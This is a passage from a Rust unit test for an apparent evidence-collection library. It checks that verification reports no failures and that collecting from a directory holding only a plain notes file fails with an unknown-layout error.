    assert_eq!(verify(&out).unwrap().failures, vec![]);

    let plain = dir.path().join("plain");
    write(&plain, "notes.txt", b"x");
    assert!(matches!(
        collect(&CollectOptions::new(
            &plain,
            dir.path().join("o2"),
            meta(),
            &k
        )),
        Err(EvidenceError::UnknownLayout { .. })
    ));
}
